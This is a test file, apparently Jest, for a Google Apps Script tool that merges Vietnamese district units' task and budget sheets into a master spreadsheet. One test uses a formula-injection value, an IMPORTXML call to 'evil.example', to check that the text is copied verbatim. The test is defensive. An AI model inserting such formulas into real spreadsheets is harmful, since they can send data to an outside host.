import { urlFetchControls } from '../../emulator';
import {
  AMOUNT_HEADER,
  CONSOLIDATED_SHEET,
  PROBLEMS_SHEET,
  PROPOSALS_SHEET,
  BUDGET_SHEET,
} from '../../src/domain/consolidate/master-sheets';
import * as entry from '../../src/index';
import { fillTaskTable } from '../../sample/fill';
import { MESSY_ROWS, sampleTasks } from '../../sample/tasks';
import { focalEmail, SAMPLE_UNITS, SampleUnit } from '../../sample/vinh-linh';
import { lastLog, Office, provisionedOffice, sheetValues, unitFileId } from '../fixtures/office';

/** Every unit fills its table with the sample rows; chosen units add the messy ones under area II. */
function fillAll(
  office: Office,
  units: readonly SampleUnit[],
  messy: Record<string, (keyof typeof MESSY_ROWS)[]>,
): void {
  for (const unit of units) {
    const rows = sampleTasks(unit, units).map((r) => [...r]);
    for (const key of messy[unit.code] ?? []) rows[1].push(MESSY_ROWS[key]);
    fillTaskTable(office.emu, focalEmail(unit), unitFileId(office.master, unit.code), 'Nhiệm vụ', rows);
  }
}

describe('Tổng hợp dữ liệu', () => {
  let office: Office;
  afterEach(() => office.close());

  it('consolidates a whole district with every problem listed at the right cell', () => {
    const units = SAMPLE_UNITS;
    office = provisionedOffice(units);
    const messy = {
      TP: ['unreadableTime', 'misspelledLead'] as const,
      VHO: ['legacyText', 'wrongYear'] as const,
      BQLDA: ['badBudget', 'noTaskName'] as const,
    };
    fillAll(office, units, messy as unknown as Record<string, (keyof typeof MESSY_ROWS)[]>);
    const tp = SAMPLE_UNITS.find((u) => u.code === 'TP') as SampleUnit;
    fillTaskTable(office.emu, focalEmail(tp), unitFileId(office.master, 'TP'), 'Đề xuất', [
      [],
      [],
      [
        [
          '1.',
          'Số hóa hồ sơ hộ tịch',
          'Dữ liệu số',
          'Phòng Tư pháp',
          '',
          'Quý III/2025',
          '200.000.000',
          'Ngân sách huyện',
          '',
        ],
      ],
    ]);
    office.emu.ctx.ledger.reset();
    entry.menuConsolidate();

    const expectedRows = units.reduce((n, u) => n + sampleTasks(u, units).flat().length, 0) + 6;
    const rows = sheetValues(office.master, CONSOLIDATED_SHEET);
    expect(rows.length - 1).toBe(expectedRows);
    expect(lastLog(office.master)[3]).toBe('Thành công');

    const problems = sheetValues(office.master, PROBLEMS_SHEET).slice(1);
    const at = (code: string, text: string) =>
      problems.filter((p) => p[0] === code && String(p[6]).includes(text));
    // TP's messy rows sit right after its area II sample rows: find their cells from the table.
    const tpRows = rows.filter((r) => r[1] === 'TP');
    const unreadable = tpRows.find((r) => r[5] === 'Cập nhật cơ sở dữ liệu cán bộ');
    expect(unreadable).toBeDefined();
    const unreadableProblem = problems.find((p) => p[0] === 'TP' && p[4] === 'Thời gian hoàn thành');
    expect(unreadableProblem?.[5]).toBe('sớm nhất có thể');
    expect(String(unreadableProblem?.[3])).toMatch(/^F\d+$/);
    expect(at('TP', 'Phòng Tư pháp').length).toBeGreaterThanOrEqual(1); // suggestion for "Phòng Tu phap"
    expect(at('VHO', 'bảng mã cũ TCVN3').map((p) => p[3])).toEqual([
      expect.stringMatching(/^B\d+$/),
      expect.stringMatching(/^C\d+$/),
    ]);
    expect(
      problems.filter((p) => p[0] === 'VHO' && p[7] === 'Cảnh báo' && p[4] === 'Thời gian hoàn thành'),
    ).toHaveLength(1);
    expect(at('BQLDA', 'chưa ghi tên nhiệm vụ')).toHaveLength(1);
    expect(
      problems.filter((p) => p[0] === 'BQLDA' && p[4] === 'Kinh phí (đồng)' && p[7] === 'Lỗi'),
    ).toHaveLength(1);
    for (const p of problems)
      expect(String(p[8])).toMatch(
        /^https:\/\/docs\.google\.com\/spreadsheets\/d\/.+#gid=\d+&range=[A-Z]+\d+$|^$/,
      );

    const proposals = sheetValues(office.master, PROPOSALS_SHEET);
    expect(proposals.find((r) => r[1] === 'Số hóa hồ sơ hộ tịch')?.[9]).toBe('Phòng Tư pháp');
    const budget = sheetValues(office.master, BUDGET_SHEET);
    const total = budget.find((r) => r[1] === 'Tổng cộng')?.[3];
    const amountColumn = rows[0].indexOf(AMOUNT_HEADER);
    const sum = rows
      .slice(1)
      .reduce((s, r) => s + (typeof r[amountColumn] === 'number' ? (r[amountColumn] as number) : 0), 0);
    expect(total).toBe(sum);
    expect(sum).toBeGreaterThan(0);
  });

  it('copies every text exactly: nothing becomes a formula, a number or a date', () => {
    office = provisionedOffice(SAMPLE_UNITS.slice(0, 1));
    const unit = SAMPLE_UNITS[0];
    fillTaskTable(office.emu, focalEmail(unit), unitFileId(office.master, unit.code), 'Nhiệm vụ', [
      [MESSY_ROWS.injection],
    ]);
    entry.menuConsolidate();
    const sheet = office.master.getSheetByName(CONSOLIDATED_SHEET);
    if (!sheet) throw new Error('no consolidation');
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const row = sheet.getRange(2, 1, 1, header.length);
    const values = row.getValues()[0];
    const col = (name: string) => header.indexOf(name);
    expect(values[col('Nhiệm vụ')]).toBe('=IMPORTXML("http://evil.example/x","//a")');
    expect(values[col('Kết quả/Sản phẩm')]).toBe('+84912345678');
    expect(values[col('Cơ quan chủ trì')]).toBe('0012');
    expect(values[col('Cơ quan phối hợp')]).toBe('1/2');
    expect(values[col('Thời gian hoàn thành')]).toBe('- Rà soát quy trình');
    expect(row.getFormulas()[0].every((f) => f === '')).toBe(true);
  });

  it('lists a 50,000-character legacy-encoded cell as a problem that fits a cell, and finishes', () => {
    const units = SAMPLE_UNITS.slice(12, 14);
    office = provisionedOffice(units);
    fillAll(office, units, {});
    const phrase = 'KiÓm tra c«ng t¸c c¶i c¸ch hµnh chÝnh ';
    const huge = phrase.repeat(Math.ceil(50_000 / phrase.length)).slice(0, 50_000);
    fillTaskTable(office.emu, focalEmail(units[0]), unitFileId(office.master, units[0].code), 'Nhiệm vụ', [
      [],
      [['', huge, 'Báo cáo', units[0].name, '', 'Quý IV/2025', 'Không', '', '']],
    ]);
    entry.menuConsolidate();
    expect(lastLog(office.master)[3]).toBe('Thành công');
    const rows = sheetValues(office.master, CONSOLIDATED_SHEET);
    expect(rows.some((r) => r.includes(huge))).toBe(true); // the unit's text itself is kept whole
    const legacy = sheetValues(office.master, PROBLEMS_SHEET)
      .slice(1)
      .filter((p) => p[0] === units[0].code && String(p[6]).includes('bảng mã cũ TCVN3'));
    expect(legacy.length).toBe(1);
    const [problem] = legacy;
    expect(String(problem[3])).toMatch(/^B\d+$/);
    for (const cell of problem) expect(String(cell).length).toBeLessThan(5_000);
    expect(String(problem[6])).toContain('Đề nghị sửa thành: "Kiểm tra công tác cải cách hành chính');
    expect(String(problem[6])).toContain('50.000 ký tự');
  });

  it('reads a task numbered like a section in its own section and leaves a signature block out', () => {
    const units = SAMPLE_UNITS.slice(12, 13);
    office = provisionedOffice(units);
    const [unit] = units;
    const fileId = unitFileId(office.master, unit.code);
    const task = (tt: string, name: string) => [
      tt,
      name,
      'Báo cáo',
      unit.name,
      '',
      'Quý IV/2025',
      'Không',
      '',
      '',
    ];
    fillTaskTable(office.emu, focalEmail(unit), fileId, 'Nhiệm vụ', [
      [],
      [],
      [task('1.', 'Một cửa điện tử')],
    ]);
    fillTaskTable(office.emu, focalEmail(unit), fileId, 'Nhiệm vụ', [[], [task('III', 'Kiểm tra văn bản')]]);
    const signatureRow = office.emu.as(focalEmail(unit), () => {
      const sheet = office.emu.SpreadsheetApp.openById(fileId).getSheetByName('Nhiệm vụ');
      if (!sheet) throw new Error('no task sheet');
      const row = sheet.getLastRow() + 2;
      sheet.getRange(row, 2, 3, 5).setValues([
        ['NGƯỜI LẬP BIỂU', '', '', '', 'THỦ TRƯỞNG ĐƠN VỊ'],
        ['', '', '', '', ''],
        ['Nguyễn Văn An', '', '', '', 'Trần Thị Bình'],
      ]);
      return row;
    });
    entry.menuConsolidate();
    expect(lastLog(office.master)[3]).toBe('Thành công');
    const header = sheetValues(office.master, CONSOLIDATED_SHEET)[0];
    const rows = sheetValues(office.master, CONSOLIDATED_SHEET).slice(1);
    const taskColumn = header.indexOf('Nhiệm vụ');
    expect(rows.map((r) => [r[3], r[taskColumn]])).toEqual([
      ['II', 'Kiểm tra văn bản'],
      ['III', 'Một cửa điện tử'],
    ]);
    const problems = sheetValues(office.master, PROBLEMS_SHEET).slice(1);
    const numbered = problems.filter((p) => String(p[6]).includes('không phải dòng tên mục'));
    expect(numbered.map((p) => [p[0], p[2], p[5]])).toEqual([[unit.code, 'Nhiệm vụ', 'III']]);
    expect(String(numbered[0][3])).toMatch(/^A\d+$/);
    const signature = problems.filter((p) => String(p[6]).includes('phần ký tên'));
    expect(signature.map((p) => p[3])).toEqual([`A${signatureRow}:I${signatureRow + 2}`]);
  });

  it('flags a deleted unit file and consolidates the others', () => {
    const units = SAMPLE_UNITS.slice(12, 16);
    office = provisionedOffice(units);
    fillAll(office, units, {});
    office.emu.ctx.drive.deletePermanently(unitFileId(office.master, units[1].code));
    entry.menuConsolidate();
    const rows = sheetValues(office.master, CONSOLIDATED_SHEET).slice(1);
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set([units[0].code, units[2].code, units[3].code]));
    expect(office.emu.ui.dialogs().at(-1)?.prompt).toContain(`${units[1].name}: Không mở được tệp`);
    const registry = sheetValues(office.master, 'Đơn vị');
    expect(registry.find((r) => r[0] === units[1].code)?.[8]).toBe(
      'Không mở được tệp (đã bị xóa hoặc mất quyền truy cập)',
    );
  });

  it('leaves the previous consolidation intact when the run dies midway', () => {
    const units = SAMPLE_UNITS.slice(12, 15);
    office = provisionedOffice(units);
    fillAll(office, units, {});
    entry.menuConsolidate();
    const before = sheetValues(office.master, CONSOLIDATED_SHEET);
    fillTaskTable(office.emu, focalEmail(units[0]), unitFileId(office.master, units[0].code), 'Nhiệm vụ', [
      [],
      [],
      [],
      [['', 'Việc mới', '', '', '', 'Quý 2', 'Không', '', '']],
    ]);
    office.emu.ctx.ledger.failOn(
      'Spreadsheet.deleteSheet',
      1,
      () => new Error('Exceeded maximum execution time'),
    );
    entry.menuConsolidate();
    expect(sheetValues(office.master, CONSOLIDATED_SHEET)).toEqual(before);
    entry.menuConsolidate();
    expect(sheetValues(office.master, CONSOLIDATED_SHEET).length).toBe(before.length + 1);
    expect(
      office.master
        .getSheets()
        .map((s) => s.getName())
        .filter((n) => n.includes('đang ghi')),
    ).toEqual([]);
  });

  it('retries 429 and 5xx answers and falls back to SpreadsheetApp for a unit whose export keeps failing', () => {
    const units = SAMPLE_UNITS.slice(12, 16);
    office = provisionedOffice(units);
    fillAll(office, units, {});
    const faults = urlFetchControls(office.emu.ctx);
    faults.failNext('/export', 429, { times: 2 });
    faults.failNext(unitFileId(office.master, units[3].code), 500, { times: 10 });
    office.emu.ctx.ledger.reset();
    entry.menuConsolidate();
    const rows = sheetValues(office.master, CONSOLIDATED_SHEET).slice(1);
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(units.map((u) => u.code)));
    expect(office.emu.ctx.ledger.count('SpreadsheetApp.openById')).toBe(1);
    expect(office.emu.ctx.ledger.count('Utilities.sleep')).toBeGreaterThanOrEqual(1);
  });

  it('refuses a second run while one holds the lock', () => {
    office = provisionedOffice(SAMPLE_UNITS.slice(0, 1));
    const other = office.emu.LockService.getScriptLock();
    expect(other.tryLock(0)).toBe(true);
    entry.menuConsolidate();
    expect(office.emu.ui.dialogs().at(-1)?.prompt).toContain('Một thao tác khác đang chạy');
    expect(sheetValues(office.master, CONSOLIDATED_SHEET)).toEqual([]);
    other.releaseLock();
  });
});
